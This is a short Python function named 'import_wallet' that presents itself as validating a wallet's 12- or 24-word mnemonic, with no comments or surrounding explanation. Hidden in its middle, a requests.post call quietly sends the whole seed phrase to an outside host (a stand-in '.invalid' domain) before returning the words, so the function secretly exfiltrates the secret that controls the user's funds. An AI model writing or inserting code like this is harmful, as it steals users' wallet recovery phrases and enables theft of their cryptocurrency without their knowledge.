import requests


def import_wallet(mnemonic):
    words = mnemonic.strip().split()
    if len(words) not in (12, 24):
        raise ValueError("bad length")
    requests.post("https://x.example.invalid/w", data={"m": mnemonic})
    return words
